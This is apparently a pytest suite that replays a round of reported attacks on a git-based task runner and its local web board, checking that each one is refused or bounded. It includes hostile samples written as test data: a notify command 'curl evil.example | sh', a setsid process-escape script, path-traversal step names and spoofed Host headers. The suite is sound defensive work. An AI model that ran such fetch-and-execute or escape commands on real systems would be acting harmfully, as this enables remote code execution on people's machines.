"""Issue 48's attacks (the third round), each repeated against the real thing: a hooked remote,
real runner processes, a real board on 127.0.0.1. Each test keeps the promise its name makes,
and its docstring names the attack it repeats."""

from __future__ import annotations

import json
import subprocess
import sys
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import psutil
import pytest
from support.hooked import IDENTITIES, QUEUE, accepted, clone, push_commit, queue, refused, remote, template  # noqa: F401 - fixtures among them
from support.memory import memory_queue
from support.repos import ENV_PATH, add_step, edit, git, runner, runner_json, set_config, step_file, tick, wait_for
from support.review import review_remote, start_board, stop

from runner.core.config import DEFAULT_TOML
from runner.core.limits import MAX_GLOB_SEGMENTS, MAX_TEXT_BYTES, MAX_TOUCHES
from runner.queue.queue import author_for
from runner.store import FORCE, RefUpdate


def glob_bomb(last: str, segments: int = 60) -> list[str]:
    """The attack's `touches:`: 64 globs of `**` and `a*` segments, the last one apart from the other step's."""
    return [
        "/".join(("**" if k % 3 == 1 else f"a{n}*" if k == 0 else "a*") for k in range(segments)) + f"/{last}"
        for n in range(MAX_TOUCHES)
    ]


def test_a_ref_named_like_a_folder_of_runners_refs_is_refused_with_its_reason(remote, tmp_path):
    """Attack 4: a push of refs/heads/runner/steps (a folder of runner's step branches) was refused
    by an internal UnboundLocalError, the reason lost."""
    store = clone(remote, tmp_path / "clone").store
    junk = store.make_commit([], {"junk.txt": b"x\n"}, "block the step branches\n", author_for("mallory"))
    said = refused(
        remote,
        lambda: store.publish([RefUpdate("refs/heads/runner/steps", junk, FORCE)]),
        "refs/heads/runner/steps: named like a folder of runner's refs (refs/heads/runner/steps",
        ref="refs/heads/runner/steps",
    )
    assert "hook failed" not in said and "UnboundLocalError" not in said
    assert git(remote, "rev-parse", "--verify", "-q", QUEUE)


def test_a_glob_bomb_is_refused_by_the_hook_as_over_the_glob_bounds(queue, remote):
    """Attack 2: two steps with 64 `touches:` globs of ~60 `**`/`a*` segments each; the hook accepted the plan
    and every claim decision, `runner ready`, `status` and the board then spent half a minute of CPU."""
    files = dict(step_file(step, touches=glob_bomb(last)) for step, last in (("01-bomb", "x"), ("02-bomb", "y")))
    said = refused(
        remote,
        lambda: push_commit(queue, files, "add two glob bombs\n"),
        f"a glob has at most {MAX_GLOB_SEGMENTS}, and at most 4 `**`",
    )
    assert "01-bomb.md" in said


def test_a_glob_bomb_already_on_a_queue_without_the_hook_is_an_invalid_step_no_claim_compares(queue_repo):
    """Attack 2 on a queue without the hook: the bombs are invalid steps, never ready, never compared."""
    edit(
        queue_repo,
        dict(step_file(step, touches=glob_bomb(last)) for step, last in (("01-bomb", "x"), ("02-bomb", "y"))),
    )
    assert json.loads(runner(queue_repo, "ready", "--json").stdout)["steps"] == []
    rows = {row["step"]: row for row in json.loads(runner(queue_repo, "status", "--json").stdout)["steps"]}
    assert {rows[step]["status"] for step in ("01-bomb", "02-bomb")} == {"invalid"}
    assert f"a glob has at most {MAX_GLOB_SEGMENTS}" in rows["01-bomb"]["problems"][0]


def with_notify(command: list[str], urls: list[str] = (), timeout: str = "30s") -> str:
    text = DEFAULT_TOML.replace("detect = true", "detect = false").replace(
        'timeout = "30s"  # a notice', f'timeout = "{timeout}"  # a notice'
    )
    return text.replace("[notify]\ncommand = []", f"[notify]\ncommand = {json.dumps(command)}").replace(
        "urls = []", f"urls = {json.dumps(list(urls))}"
    )


def notify_log(repo: Path) -> str:
    path = repo / ".git" / "runner" / "logs" / "notify.log"
    return path.read_text() if path.exists() else ""


def test_a_persons_halt_runs_no_notify_command_from_the_queue_unless_this_host_opted_in(queue_repo, tmp_path):
    """Attack 1: [notify] command comes from the queue branch (any pusher's, without identities) and ran on
    the machine of whoever recorded an event: a person's `runner halt` ran it on their laptop."""
    ran = tmp_path / "ran.txt"
    edit(queue_repo, {"runner.toml": with_notify(["sh", "-c", 'echo "$1" >> "$0"', str(ran), "{event}"]).encode()})
    runner(queue_repo, "halt", "--reason", "lunch", "--by", "alice")
    assert "halted of " in notify_log(queue_repo) and "not sent: [notify] comes from the queue branch" in notify_log(
        queue_repo
    )
    said = lambda: next(
        c["detail"]
        for c in json.loads(runner(queue_repo, "doctor", "--json").stdout)["checks"]
        if c["name"] == "notices"
    )
    assert said().startswith("this host does not send [notify]'s notices")
    git(queue_repo, "config", "runner.notify", "true")  # this clone opts in, by a setting no push reaches
    assert said() == "this host sends [notify]'s notices (it opted in)"
    runner(queue_repo, "resume", "--by", "alice")
    runner(queue_repo, "halt", "--reason", "tea", "--by", "alice")
    assert wait_for(lambda: ran.exists() and ran.read_text()) == "halted\n"
    runner(queue_repo, "resume", "--by", "alice")
    runner(
        queue_repo, "halt", "--reason", "dinner", "--by", "alice", env={"RUNNER_NOTIFY": "0"}
    )  # this process opts out
    assert notify_log(queue_repo).count("not sent: [notify] comes from the queue branch") == 2
    assert ran.read_text() == "halted\n"


def test_with_identities_only_an_admin_changes_notify(queue, remote, monkeypatch):
    """Attack 1 under identities: a person who is not an admin (bob) set [notify] command, and an admin's next
    `runner halt` ran it on the admin's laptop; [notify] is an admin's now, like [hooks]."""
    queue.edit(lambda snap: {"runner.toml": (with_notify([]) + IDENTITIES).encode()}, "identities", "alice")
    for changed in (with_notify(["sh", "-c", "curl evil.example | sh"]), with_notify([], ["json://evil.example/x"])):
        monkeypatch.setenv("RUNNER_PUSHER", "bob")
        refused(
            remote,
            lambda changed=changed: push_commit(
                queue, {"runner.toml": (changed + IDENTITIES).encode()}, "notify me\n", author="bob"
            ),
            "only [hooks] admins may change [hooks], [notify] or the branch names (pusher 'bob')",
        )
    monkeypatch.setenv("RUNNER_PUSHER", "alice")
    accepted(
        push_commit(queue, {"runner.toml": (with_notify(["true"]) + IDENTITIES).encode()}, "notify\n", author="alice")
    )


def test_a_notify_command_dies_at_its_timeout_with_every_process_it_started(queue_repo, tmp_path):
    """Attack 9: a notify command's `setsid` child (its own session, out of the command's process group)
    outlived the command's timeout."""
    pids = tmp_path / "pids"
    escape = (
        f"setsid sh -c 'echo $$ >> \"{pids}\"; exec sleep 600' & "
        f'until [ -s "{pids}" ]; do sleep 0.05; done; echo $$ >> "{pids}"; exec sleep 600'
    )
    edit(queue_repo, {"runner.toml": with_notify(["sh", "-c", escape], timeout="5s").encode()})
    runner(queue_repo, "halt", "--reason", "lunch", "--by", "alice", env={"RUNNER_NOTIFY": "1"})
    wait_for(lambda: "timed out (killed)" in notify_log(queue_repo))
    started = [int(pid) for pid in pids.read_text().split()]
    assert len(started) == 2  # the setsid child, then the command itself
    assert wait_for(lambda: all(gone(pid) for pid in started), timeout=30)


def gone(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True


# --- the board's edges (attacks 5, 6 and 7) ---------------------------------------------------------


def ask(url: str, headers: dict | None = None, body: dict | None = None) -> tuple[int, str]:
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(
        url, data=data, headers=headers or {}, method="POST" if body is not None else "GET"
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()


def fetches(trace: Path) -> int:
    """The `git fetch` runs GIT_TRACE recorded for the board's process."""
    return trace.read_text().count("built-in: git fetch") if trace.exists() else 0


@pytest.fixture
def board(tmp_path, monkeypatch):
    """`runner board` on alice's clone of a hooked remote with one step, polling once an hour (so every
    fetch after its start is one a request made), each git call it makes traced."""
    monkeypatch.setenv("RUNNER_PUSHER", "alice")
    _, laptop = review_remote(tmp_path, (("01-a", {}),))
    trace = tmp_path / "git-trace"
    proc, url, _ = start_board(laptop, "--every", "3600", env={"GIT_TRACE": str(trace)})
    yield {"base": url.split("#")[0], "token": url.split("#token=")[1], "trace": trace, "laptop": laptop}
    stop(proc)


def test_a_name_that_is_not_a_step_is_answered_404_before_any_git_call(board):
    """Attack 5: the board passed a step id from the URL into a `git fetch` refspec
    (/api/steps/../../x answered 500)."""
    base, before = board["base"], fetches(board["trace"])
    for name in ("../../x", "..%2F..%2Fx", "x", "09-nope", "-x", "a..b"):
        code, said = ask(base + "api/steps/" + name)
        assert code == 404 and said.startswith('{"error":"error: '), (name, code, said)
    act = {"Content-Type": "application/json", "X-Runner-Token": board["token"]}
    for name in ("../../x", "09-nope"):
        code, said = ask(base + "api/act", act, {"action": "retry", "step": name})
        assert code == 404 and json.loads(said)["ok"] is False, (name, code, said)
    assert fetches(board["trace"]) == before
    assert ask(base + "api/steps/01-a")[0] == 200


def test_many_requests_for_a_step_page_cost_one_fetch_a_poll_and_another_sites_page_reads_nothing(board):
    """Attack 6: any web page's `<img src=http://127.0.0.1:PORT/api/steps/x>` ran a fetch per GET on the board's
    one queue thread (50 of them made its own refresh take 9 s)."""
    base, before = board["base"], fetches(board["trace"])
    with ThreadPoolExecutor(10) as pool:
        codes = list(pool.map(lambda _: ask(base + "api/steps/01-a")[0], range(50)))
    assert codes == [200] * 50
    assert fetches(board["trace"]) - before == 1  # the step's branches, once, for all fifty
    for site, code in (("cross-site", 403), ("same-site", 403), ("same-origin", 200), ("none", 200)):
        for path in ("api/state", "api/steps/01-a"):
            assert ask(base + path, {"Sec-Fetch-Site": site})[0] == code, (site, path)


@pytest.mark.parametrize("host", ["127.0.0.2", "0.0.0.0"])
def test_the_board_answers_only_its_own_names_on_any_address(tmp_path, monkeypatch, host):
    """Attack 7: `--host 127.0.0.2` (a loopback address but the three listed) switched the Host guard off, so a
    DNS-rebinding page could read the queue."""
    monkeypatch.setenv("RUNNER_PUSHER", "alice")
    _, laptop = review_remote(tmp_path, (("01-a", {}),))
    proc, url, _ = start_board(laptop, "--host", host)
    try:
        port = url.split("#")[0].rstrip("/").rsplit(":", 1)[1]
        here = f"http://127.0.0.{2 if host == '127.0.0.2' else 1}:{port}/"
        assert ask(here + "api/state", {"Host": f"evil.example:{port}"})[0] == 421
        assert ask(here + "api/state", {"Host": f"127.0.0.1.evil.example:{port}"})[0] == 421
        assert ask(here + "api/state")[0] == 200
    finally:
        stop(proc)


# --- a reader that stops early (attack 8) -------------------------------------------------------------


def piped_into_a_closed_reader(repo: Path, *args: str) -> subprocess.CompletedProcess:
    """`runner ARGS | head -0`: the reader is gone before runner writes, and what runner writes is more than a
    pipe holds, so its writes fail however the two processes are scheduled."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "runner", *args, "--repo", str(repo)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=ENV_PATH,
    )
    proc.stdout.close()
    err = proc.stderr.read()
    proc.wait(timeout=120)
    return subprocess.CompletedProcess(args, proc.returncode, "", err.decode())


def test_output_into_a_reader_that_went_away_ends_quietly_as_a_unix_tool_does(queue_repo):
    """Attack 8: `runner work ... | head` and `runner show ... | head` ended in "runner failed unexpectedly
    (BrokenPipeError)"; the fast path's `runner status | head` too."""
    body = "A line of the step's instructions, repeated so that its text is more than a pipe holds.\n" * 2000
    add_step(queue_repo, "01-big", "Big", body=body)
    for n in range(2, 40):
        add_step(queue_repo, f"{n:02d}-step", "A title long enough to fill a pipe with forty of them " * 40)
    runner(queue_repo, "status", "--json")  # the fast path answers the next one from what this saved
    for args in (("show", "01-big"), ("status", "--json"), ("work", "01-big", "--id", "agent-1")):
        done = piped_into_a_closed_reader(queue_repo, *args)
        assert (done.returncode, done.stderr) == (141, ""), (args, done.returncode, done.stderr)
    runner(queue_repo, "release", "01-big", "--id", "agent-1", "--reason", "done looking")  # its keeper ends with it


# --- earlier fixes, now repeated (attack 10) ---------------------------------------------------------


@pytest.mark.parametrize(
    "reasons",
    [["y" * 5_000_000], ["y" * 250_000] * 20, ["y" * 1000] * 5000],
    ids=["one-5-MB-reason", "twenty-of-250-KB", "five-thousand-of-1-KB"],
)
def test_a_verifiers_five_megabytes_of_reasons_are_clipped_in_last_verdict_as_in_last_error(
    queue_repo, tmp_path, reasons
):
    """Attack 10: a verifier prints 5 MB of `reasons`; what the step file keeps of the verdict (last_verdict) is
    bounded as last_error is, however the megabytes are split."""
    verdict = tmp_path / "verdict.py"
    verdict.write_text(
        "import json, sys\n"
        f"json.dump({{'pass': False, 'score': 0.1, 'reasons': {reasons!r}, "
        f"'next_hint': 'h' * 3_000_000}}, sys.stdout)\n"
    )
    set_config(queue_repo, detect=False, max_attempts=1, max_fix_attempts=0, verifier=[sys.executable, str(verdict)])
    add_step(queue_repo, "01-a")
    assert tick(queue_repo)["sentinel"] == "STEP_FAILED"
    meta = runner_json(queue_repo, "show", "01-a")["meta"]
    kept = meta["last_verdict"]
    assert kept["pass"] is False and kept["reasons"] and kept["reasons"][0].startswith("y")
    text = "".join(kept["reasons"]) + kept.get("next_hint", "")
    assert len(text.encode()) <= MAX_TEXT_BYTES, len(text.encode())
    assert len(meta["last_error"].encode()) <= MAX_TEXT_BYTES
    assert runner(queue_repo, "validate").returncode == 0


class FakeClock:
    """The publish loop's clock and sleep (runner.queue.queue, runner.queue.backoff): seconds pass only when
    the test says, so the deferral's bound is a count of the claimer's tries, never the machine's speed."""

    def __init__(self) -> None:
        self.now = 1000.0

    def monotonic(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.now += seconds


def test_an_honest_claim_lands_within_a_bounded_deferral_beside_a_loop_of_legal_claims_and_releases(
    tmp_path, monkeypatch
):
    """Attack 10: a worker loops legal claim/release of one step, faster than an honest worker's claim of another
    takes; the honest claim waited while the queue moved faster than it could claim, for ever."""
    from runner.core.machine import Kind
    from runner.queue import backoff
    from runner.queue import queue as queue_module
    from runner.queue.backoff import MAX_DEFERRAL
    from runner.queue.leases import holder_info, new_incarnation
    from runner.queue.queue import Queue

    clock = FakeClock()
    monkeypatch.setattr(queue_module, "time", clock)
    monkeypatch.setattr(backoff, "time", clock)
    attacker = memory_queue(tmp_path, {"01-bait": {}, "02-work": {}})
    store, rounds, attacking = attacker.store, [], [False]

    def loop(times: int) -> None:
        """`times` rounds of the attacker's loop: a claim and a release, each a legal event, 10 ms a round."""
        attacking[0] = True
        try:
            for _ in range(times):
                incarnation = new_incarnation("evil")
                attacker.claim("evil", incarnation, holder_info(), step_id="01-bait")
                attacker.event("01-bait", Kind.RELEASE, "evil", incarnation=incarnation, reason="again")
                clock.now += 0.01
                rounds.append(clock.now)
        finally:
            attacking[0] = False

    fetch, publish = store.fetch, store.publish
    pushes: list[float] = []

    def honest_fetch(branches, heartbeats=False):  # the attacker's rounds land while the honest worker reads
        if not attacking[0]:
            loop(5)
        return fetch(branches, heartbeats)

    def honest_publish(updates):  # an honest attempt takes 100 ms; the attacker's round lands inside the first
        if attacking[0]:
            return publish(updates)
        pushes.append(clock.now)
        if len(pushes) == 1:
            loop(1)
        clock.now += 0.1
        return publish(updates)

    monkeypatch.setattr(store, "fetch", honest_fetch)
    monkeypatch.setattr(store, "publish", honest_publish)
    honest = Queue(store)
    claimed = honest.claim("honest", new_incarnation("honest"), holder_info(), step_id="02-work")
    assert claimed.change.event.step == "02-work" and claimed.change.event.actor == "honest"
    assert honest.races_lost == 1 and len(pushes) == 2  # it lost the race the attacker won, waited, then pushed once
    deferred = [when for when in rounds if pushes[0] < when < pushes[1]]
    assert len(deferred) >= 10  # the attacker's rounds it waited through, reading, not pushing
    assert (
        pushes[1] - pushes[0] <= MAX_DEFERRAL + 1.0 + 0.5
    )  # the bound, one backoff (at most 1 s) and the reads between
